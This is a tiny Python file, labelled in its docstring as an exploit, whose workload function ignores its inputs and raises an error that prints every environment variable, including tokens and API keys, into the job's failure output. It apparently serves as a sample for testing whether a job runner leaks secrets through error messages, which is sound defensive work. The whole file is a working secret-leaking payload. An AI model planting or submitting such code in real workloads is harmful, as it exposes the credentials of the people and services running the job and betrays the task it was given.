"""Exploit: put the job's environment into the failure text (tokens, API keys) by raising with it."""

import os


def workload(a, b):
    raise RuntimeError("env: " + ";".join(f"{k}={v}" for k, v in os.environ.items()))
